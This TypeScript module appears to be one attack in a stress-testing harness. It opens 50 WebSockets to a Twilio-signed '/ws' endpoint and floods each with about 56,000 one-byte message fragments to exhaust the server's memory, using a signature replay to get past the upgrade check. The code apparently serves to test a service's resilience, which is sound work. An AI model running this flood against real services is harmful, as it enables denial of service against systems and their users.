import { randomBytes } from "node:crypto"
import { request } from "node:http"
import type { Duplex } from "node:stream"
import { type Attack, pause, repeat, sign, type Target } from "../Attack.ts"

/** A masked fragment of one byte, not the last of its message; RFC 6455, section 5.2. */
const fragment = (isFirst: boolean) => Buffer.from([isFirst ? 0x01 : 0x00, 0x81, 0, 0, 0, 0, 0x61])

/** 8,000 one-byte fragments in one write. Each takes many times its size in the service's memory. */
const manyFragments = Buffer.concat(Array.from({ length: 8000 }, () => fragment(false)))

/** The connection after an upgrade, or `undefined` if it was refused. */
const upgrade = ({ host, port }: Target, headers: Readonly<Record<string, string>>): Promise<Duplex | undefined> =>
  new Promise((resolve) => {
    const asked = request({
      host,
      port,
      path: "/ws",
      headers: {
        ...headers,
        connection: "Upgrade",
        upgrade: "websocket",
        "sec-websocket-version": "13",
        "sec-websocket-key": randomBytes(16).toString("base64")
      }
    })
    asked.on("upgrade", (_, socket) => resolve(socket.on("error", () => {}).resume()))
    asked.on("response", (response) => resolve(void response.resume()))
    asked.on("error", () => resolve(undefined))
    asked.end()
  })

/** The upgrade has Twilio's own signature: an attacker can repeat one that they have seen. */
export const fragments: Attack = {
  name: "messages in tiny fragments",
  strength: "50 WebSockets, 56,000 fragments each",
  run: async (siege) => {
    const url = `${siege.url.replace("http", "ws")}/ws`
    let opened = 0
    await repeat(siege, 50, async () => {
      const socket = await upgrade(siege, { "x-twilio-signature": sign(siege.account.authToken, url) })
      if (socket === undefined) return pause(20)
      opened++
      socket.write(fragment(true))
      for (let round = 0; round < 7 && !socket.destroyed; round++) {
        if (!socket.write(manyFragments)) await new Promise((resolve) => socket.once("drain", resolve).once("close", resolve))
      }
      await pause(Math.min(500, siege.millisLeft()))
      socket.destroy()
    })
    return `${opened} WebSockets`
  }
}
